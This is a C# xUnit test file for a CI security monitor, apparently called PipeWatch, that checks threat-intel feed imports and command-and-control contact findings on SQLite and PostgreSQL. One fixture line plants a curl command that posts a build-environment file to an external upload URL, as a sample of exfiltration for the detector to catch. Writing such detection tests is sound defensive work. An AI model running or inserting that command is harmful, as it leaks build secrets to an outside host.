using PipeWatch.Diagnostics;
using PipeWatch.Intel;
using PipeWatch.Store;
using PipeWatch.Store.Postgres;
using PipeWatch.Tests.Server;
using PipeWatch.Tests.Sources.JobLogs;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Store.Postgres;

/// <summary>
/// The indicator index on PostgreSQL: the corpus's MISP event and STIX bundle imported into SQLite and into a real PostgreSQL
/// give the same feeds, the same indicators and the same <c>threat-intel.c2-contact</c> findings for the same events.
/// </summary>
[Collection(PostgresServer.Collection)]
public sealed class PostgresIntelTests(PostgresServer server) : IDisposable
{
    private static readonly string Misp = Corpus.File("intel", "misp", "existing_event.json");
    private static readonly string Stix = Corpus.File("intel", "stix", "examples", "threat-reports", "apt1.json");

    private readonly TempFolder _temp = new();

    public void Dispose() => _temp.Dispose();

    [Fact]
    public async Task A_MISP_event_and_a_STIX_bundle_imported_into_PostgreSQL_match_the_same_events_as_on_SQLite()
    {
        using var stores = await StorePair.OpenAsync(server);
        var (sqlite, postgres) = (stores.Sqlite, stores.Postgres);
        var inputs = Inputs();

        Assert.Equal(Import(sqlite, Ingest.Now), Import(postgres, Ingest.Now));
        Assert.Equal(Listed(sqlite), Listed(postgres));
        Assert.Equal(Stored(sqlite), Stored(postgres));
        Assert.Equal(2, Listed(postgres).Length);

        var onSqlite = await IngestInto.FindingsAsync(sqlite, inputs);
        var onPostgres = await IngestInto.FindingsAsync(postgres, inputs);
        Assert.Equal(
            [
                "'business_advanced_security.disabled' by bobert came from a known-bad address: 223.167.10.20",
                "Job '9412345679', step 'step_script' contacted a known C2/exfiltration endpoint: https://cdn.movieultimate.com/upload",
            ],
            onPostgres.Where(f => f.Rule == "threat-intel.c2-contact").Select(f => f.Title).Order(StringComparer.Ordinal));
        Assert.Equal(IngestInto.Described(onSqlite), IngestInto.Described(onPostgres));

        // Imported again a day later: every value is updated, none added, and each keeps its first-seen time; a refresh that no
        // longer lists the MISP event's values removes them, and removing the feed says how many went — the same on both.
        var later = Ingest.Now.AddDays(1);
        Assert.Equal(Import(sqlite, later), Import(postgres, later));
        Assert.Equal(Stored(sqlite), Stored(postgres));
        Assert.Equal(
            (sqlite.RemoveUnlisted("existing_event.json", later.AddHours(1)), sqlite.RemoveIntelFeed("apt1.json"), sqlite.RemoveIntelFeed("none")),
            (postgres.RemoveUnlisted("existing_event.json", later.AddHours(1)), postgres.RemoveIntelFeed("apt1.json"), postgres.RemoveIntelFeed("none")));
        Assert.Equal(Listed(sqlite), Listed(postgres));
        Assert.Empty(postgres.ReadIndicators());
    }

    [Fact]
    public async Task Serve_on_PostgreSQL_refreshes_its_intel_feeds_into_the_shared_store()
    {
        await using var feed = new LoopbackHttpServer(request => request.Path == "/feeds/c2.txt" ? new HttpReply(200, "# team C2 list\nold-c2.example\n", ContentType: "text/plain") : new HttpReply(404));
        using var folder = new TempFolder();
        var store = await server.NewStoreAsync();
        var text = new StringWriter();
        var yaml = $"intel:\n  feeds:\n    - url: {feed.Url}/feeds/c2.txt\n      name: team-c2\n      refresh: 1h\n";

        await using (await RunningServer.StartAsync(yaml, folder: folder, output: TextWriter.Synchronized(text), store: store))
        {
            var deadline = DateTime.UtcNow.AddSeconds(60);
            while (!Said(text).Contains("intel feeds refreshed", StringComparison.Ordinal) && DateTime.UtcNow < deadline) await Task.Delay(100, TestContext.Current.CancellationToken);
        }

        Assert.Contains("pipewatch serve: intel feeds refreshed (1 read);", Said(text), StringComparison.Ordinal);
        using var check = (PostgresStore)StoreFactory.Open(store);
        var listed = Assert.Single(check.ListIntelFeeds());
        Assert.Equal(("team-c2", 1L), (listed.Feed, listed.Counts[IndicatorKind.Domain]));
        Assert.Equal("old-c2.example", Assert.Single(check.ReadIndicators()).Value);
    }

    private static string[] Import(IIntelStore store, DateTimeOffset now)
    {
        var results = new List<string>();
        foreach (var file in new[] { Misp, Stix })
        {
            var problems = new ProblemLog();
            var reading = IntelFeeds.ReadFile(file, null, null, problems);
            Assert.NotEmpty(reading.Indicators);
            var result = store.ImportIndicators(reading, now, TimeSpan.FromDays(90), TestContext.Current.CancellationToken);
            results.Add($"{reading.Feed}: {result.Added} added, {result.Updated} updated");
        }

        return [.. results];
    }

    private static string[] Listed(IIntelStore store) =>
        [.. store.ListIntelFeeds().Select(f => $"{f.Feed} {f.Format} {f.Source} {f.ImportedAt:O} {f.Expired}: {string.Join(", ", f.Counts.OrderBy(c => c.Key).Select(c => $"{c.Key} {c.Value}"))}")];

    private static string[] Stored(IIntelStore store) =>
        [.. store.ReadIndicators().Select(i => $"{i.Feed} {i.Kind} {i.Value} {i.FirstSeen:O} {i.LastSeen:O} {i.ValidFrom:O} {i.ValidUntil:O} {i.Confidence} {i.Revoked} {i.Alert} {IndicatorJson.Write(i)}").Order(StringComparer.Ordinal)];

    /// <summary>The GitLab trace of the corpus with a call to the MISP event's domain at line 18, and two audit entries: one from an APT1 block, one not.</summary>
    private string[] Inputs()
    {
        var lines = File.ReadAllText(JobLogFixtures.GitLabTrace).Split('\n');
        lines[17] = "curl -s -X POST https://cdn.movieultimate.com/upload -d @build-env.txt";
        var log = _temp.File("9412345679.log");
        File.WriteAllText(log, string.Join('\n', lines.Select(l => l.Replace(JobLogFixtures.GitLabToken, "[MASKED]", StringComparison.Ordinal))));
        var audit = _temp.File("audit.json");
        File.WriteAllText(audit, """
            [{"@timestamp":1671111111111,"_document_id":"gA1","action":"business_advanced_security.disabled","actor":"bobert","actor_ip":"223.167.10.20","actor_location":{"country_code":"CN"},"business":"example-enterprise","created_at":1671111111111,"operation_type":"modify","user":"bobert"},
             {"@timestamp":1671111112222,"_document_id":"gA2","action":"business_advanced_security.enabled","actor":"alice","actor_ip":"12.12.12.12","actor_location":{"country_code":"US"},"business":"example-enterprise","created_at":1671111112222,"operation_type":"modify","user":"alice"}]
            """);
        return [log, audit];
    }

    private static string Said(StringWriter text)
    {
        lock (text) return text.ToString();
    }
}
